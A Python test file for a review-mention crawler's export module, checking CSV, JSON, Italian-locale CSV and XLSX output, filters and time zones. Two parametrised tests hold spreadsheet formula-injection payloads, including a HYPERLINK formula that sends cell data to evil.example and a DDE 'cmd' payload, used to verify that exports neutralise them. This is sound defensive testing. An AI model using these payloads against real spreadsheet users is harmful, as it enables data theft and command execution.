"""Exports carry the contract's fields (then how each mention was handled, then the stars), in CSV,
JSON, JSON Lines, a CSV for Italian spreadsheets and an Excel workbook, read back here the way a
spreadsheet reads them."""

from __future__ import annotations

import codecs
import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from cli_runner import run_cli, write_config

from crawler.export import (
    FIELDS,
    ExportError,
    check_filters,
    matching_brands,
    stars,
    write_export,
)
from crawler.items import Mention
from crawler.store import change_status, iter_mentions, open_engine, upsert_mentions

CONTRACT = [
    "id", "brand", "source", "kind", "url", "title", "author", "published", "first_seen",
    "lang", "rating", "score", "label", "analyzer", "status", "text",
]  # fmt: skip
EXPORTED = [*CONTRACT, "note", "handled_by", "handled_at", "rating_value", "rating_best"]


def one_star_review(**changes) -> Mention:
    """Giulia's 1★ review of Panificio Rossi, with a quote, a comma and a second line."""
    fields = dict(
        brand="Panificio Rossi",
        kind="review",
        url="https://r.example/#review-1",
        text='Resto sbagliato, "mai più".\nSeconda riga, con virgola',
        source="r.example",
        author="Giulia",
        rating=0.0,
        lang="it",
        score=-0.6,
        label="negative",
        analyzer="it-lexicon",
        published=datetime(2024, 3, 2, 17, 30, tzinfo=UTC),
    )
    return Mention(**{**fields, **changes})


@pytest.fixture
def engine(database_url):
    engine = open_engine(database_url)
    comment = Mention(
        brand="Caffè Aurora",
        kind="comment",
        url="https://b.example/p#comment-2",
        text="Great coffee",
        source="b.example",
    )
    upsert_mentions(engine, [one_star_review(), comment])
    return engine


def test_fields_are_the_contract_then_how_the_mention_was_handled_then_the_stars():
    assert list(FIELDS) == EXPORTED


def test_the_note_who_and_when_of_handling_are_exported(engine):
    mention = next(iter_mentions(engine))["id"]
    change_status(engine, mention, "handled", "richiamata, buono sconto", "Anna")
    stream = io.StringIO()
    write_export(iter_mentions(engine), stream, "jsonl")
    (record,) = [json.loads(line) for line in stream.getvalue().splitlines() if mention in line]
    assert (record["status"], record["note"], record["handled_by"]) == (
        "handled",
        "richiamata, buono sconto",
        "Anna",
    )
    assert datetime.fromisoformat(record["handled_at"]).utcoffset() is not None


def test_csv_round_trips_text_with_quotes_commas_and_newlines(engine):
    stream = io.StringIO()
    assert write_export(iter_mentions(engine), stream, "csv") == 2
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert list(rows[0]) == EXPORTED
    assert rows[0]["text"] == 'Resto sbagliato, "mai più".\nSeconda riga, con virgola'
    assert rows[0]["published"] == "2024-03-02T17:30:00+00:00"
    assert rows[1]["rating"] == "" and rows[1]["label"] == "unknown"


def test_json_and_jsonl_hold_the_same_records(engine):
    as_json, as_lines = io.StringIO(), io.StringIO()
    write_export(iter_mentions(engine), as_json, "json")
    write_export(iter_mentions(engine, label="negative"), as_lines, "jsonl")
    records = json.loads(as_json.getvalue())
    assert [list(r) for r in records] == [EXPORTED, EXPORTED]
    [line] = as_lines.getvalue().splitlines()
    assert json.loads(line) == records[0]
    assert records[0]["rating"] == 0.0 and records[0]["first_seen"].endswith("+00:00")


def test_an_unknown_format_is_a_clear_error(engine):
    with pytest.raises(ExportError, match="csv, csv-excel, json, jsonl, xlsx"):
        write_export(iter_mentions(engine), io.StringIO(), "xml")


def store_comment(folder, text: str):
    """A store holding one comment whose text, title and author are all `text`."""
    engine = open_engine(f"sqlite:///{folder / 'formula.db'}")
    comment = Mention(
        brand="Panificio Rossi",
        kind="comment",
        url="https://b.example/p#comment-9",
        text=text,
        title=text,
        author=text,
        source="b.example",
        score=-0.75,
    )
    upsert_mentions(engine, [comment])
    return engine


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Clicca")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_start_like_a_formula_are_text_for_a_spreadsheet(tmp_path, dangerous):
    engine = store_comment(tmp_path, dangerous)
    stream = io.StringIO()
    write_export(iter_mentions(engine), stream, "csv")
    [row] = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
    assert row["text"] == row["title"] == row["author"] == "'" + dangerous
    assert row["score"] == "-0.75"  # a number, not text: a spreadsheet reads it as a value
    jsonl = io.StringIO()
    write_export(iter_mentions(engine), jsonl, "jsonl")
    assert json.loads(jsonl.getvalue())["text"] == dangerous  # JSON is data, not a sheet


def test_a_one_star_review_exports_as_one_star_of_five_beside_the_normalised_rating(engine):
    stream = io.StringIO()
    write_export(iter_mentions(engine), stream, "jsonl")
    review, comment = [json.loads(line) for line in stream.getvalue().splitlines()]
    assert (review["rating"], review["rating_value"], review["rating_best"]) == (0.0, 1.0, 5)
    assert (comment["rating_value"], comment["rating_best"]) == (None, None)


@pytest.mark.parametrize(("rating", "value"), [(0.0, 1.0), (0.5, 3.0), (0.875, 4.5), (1.0, 5.0)])
def test_stars_are_the_five_star_scale_people_give(rating, value):
    assert stars(rating) == value


def excel_csv_rows(data: bytes) -> list[list[str]]:
    """Read a CSV as Excel does on a double-click: the BOM says UTF-8, the locale the separator."""
    assert data.startswith(codecs.BOM_UTF8), "without a BOM Excel reads the file as ANSI"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_for_an_italian_spreadsheet_opens_in_columns_with_accents_intact(engine):
    stream = io.StringIO(newline="")
    assert write_export(iter_mentions(engine), stream, "csv-excel", language="it") == 2
    header, review, comment = excel_csv_rows(stream.getvalue().encode("utf-8"))
    assert header == EXPORTED
    by_name = [dict(zip(header, row, strict=True)) for row in (review, comment)]
    assert by_name[1]["brand"] == "Caffè Aurora"
    assert by_name[0]["text"] == 'Resto sbagliato, "mai più".\nSeconda riga, con virgola'
    # Numbers as an Italian spreadsheet writes them, so they are numbers there, not text.
    assert (by_name[0]["score"], by_name[0]["rating_value"]) == ("-0,6", "1,0")
    assert by_name[0]["rating_best"] == "5"


def test_csv_for_an_english_spreadsheet_keeps_commas_and_the_bom(engine):
    stream = io.StringIO(newline="")
    write_export(iter_mentions(engine), stream, "csv-excel", language="en")
    text = stream.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0]["score"] == "-0.6" and rows[1]["brand"] == "Caffè Aurora"


def read_workbook(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    [sheet] = book.worksheets
    return sheet


def test_xlsx_holds_numbers_dates_and_text_as_a_spreadsheet_shows_them(engine):
    stream = io.BytesIO()
    assert write_export(iter_mentions(engine), stream, "xlsx") == 2
    sheet = read_workbook(stream.getvalue())
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == EXPORTED
    review = dict(zip(rows[0], rows[1], strict=True))
    assert review["text"] == 'Resto sbagliato, "mai più".\nSeconda riga, con virgola'
    assert rows[2][EXPORTED.index("brand")] == "Caffè Aurora"
    assert (review["rating"], review["rating_value"], review["score"]) == (0, 1, -0.6)
    assert review["published"] == datetime(2024, 3, 2, 17, 30)  # a date cell, in UTC
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize(
    "dangerous", ['=HYPERLINK("https://evil.example/?x="&A1,"Clicca")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_xlsx_cells_that_start_like_a_formula_are_text(tmp_path, dangerous):
    engine = store_comment(tmp_path, dangerous)
    stream = io.BytesIO()
    write_export(iter_mentions(engine), stream, "xlsx")
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = read_workbook(stream.getvalue())
    text = sheet.cell(row=2, column=EXPORTED.index("text") + 1)
    assert (text.value, text.data_type, text.quotePrefix) == (dangerous, "s", True)
    assert sheet.cell(row=2, column=EXPORTED.index("score") + 1).value == -0.75


def test_an_unknown_kind_or_label_names_the_valid_ones():
    with pytest.raises(ExportError, match="review, comment, post, feed, page, forum"):
        check_filters("reviews", None)
    with pytest.raises(ExportError, match="negative, neutral, positive, unknown"):
        check_filters(None, "bad")
    check_filters("review", "negative")  # the valid ones pass


@pytest.mark.parametrize(
    ("asked", "found"),
    [("panificio rossi", "Panificio Rossi"), ("caffe", "Caffè"), ("CAFFÈ  ", "Caffè")],
)
def test_the_brand_filter_ignores_case_and_accents(asked, found):
    assert matching_brands(asked, ["Panificio Rossi", "Caffè", "Caffè Aurora"]) == [found]


def test_a_brand_that_is_not_one_lists_the_brands():
    with pytest.raises(ExportError, match="brands: Caffè, Panificio Rossi"):
        matching_brands("Forno Bianchi", ["Panificio Rossi", "Caffè"])


@pytest.fixture
def project(tmp_path):
    """A project folder whose store holds a 1★ review of Panificio Rossi, written in summer."""
    write_config(tmp_path, "")
    engine = open_engine(f"sqlite:///{tmp_path / 'passaparola.db'}")
    summer = datetime(2024, 7, 2, 22, 30, tzinfo=UTC)
    upsert_mentions(engine, [one_star_review(published=summer)])
    engine.dispose()
    return tmp_path


def test_export_finds_a_brand_written_in_lower_case(project):
    result = run_cli("export", "--brand", "panificio rossi", "-f", "jsonl", cwd=project)
    [record] = [json.loads(line) for line in result.stdout.splitlines()]
    assert record["brand"] == "Panificio Rossi" and record["rating_value"] == 1.0


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (("--kind", "reviews"), "--kind 'reviews' is not a kind; use one of review, comment"),
        (("--label", "bad"), "--label 'bad' is not a label; use one of negative, neutral"),
        (("--brand", "Forno Bianchi"), "brands: Panificio Rossi"),
        (("--format", "xlsx"), "--format xlsx writes a file: give it with --output"),
    ],
)
def test_an_export_that_would_be_empty_or_unreadable_is_one_line_and_status_2(project, args, says):
    result = run_cli("export", *args, cwd=project, check=False, installed=True)
    assert result.returncode == 2 and result.stdout == ""
    [line] = result.stderr.strip().splitlines()
    assert says in line


def test_local_time_gives_dates_in_the_time_zone_of_tz(project):
    rome = run_cli("export", "--local-time", "-f", "jsonl", cwd=project, env={"TZ": "Europe/Rome"})
    utc = run_cli("export", "-f", "jsonl", cwd=project, env={"TZ": "Europe/Rome"})
    assert json.loads(rome.stdout)["published"] == "2024-07-03T00:30:00+02:00"  # summer time
    assert json.loads(utc.stdout)["published"] == "2024-07-02T22:30:00+00:00"


def test_xlsx_export_to_a_file_opens_in_openpyxl_with_local_dates(project):
    run_cli(
        "export", "-f", "xlsx", "-o", "menzioni.xlsx", "--local-time",
        cwd=project, env={"TZ": "Europe/Rome"},
    )  # fmt: skip
    sheet = read_workbook((project / "menzioni.xlsx").read_bytes())
    header, row = list(sheet.iter_rows(values_only=True))
    record = dict(zip(header, row, strict=True))
    assert record["published"] == datetime(2024, 7, 3, 0, 30)
    assert (record["rating_value"], record["rating_best"]) == (1, 5)
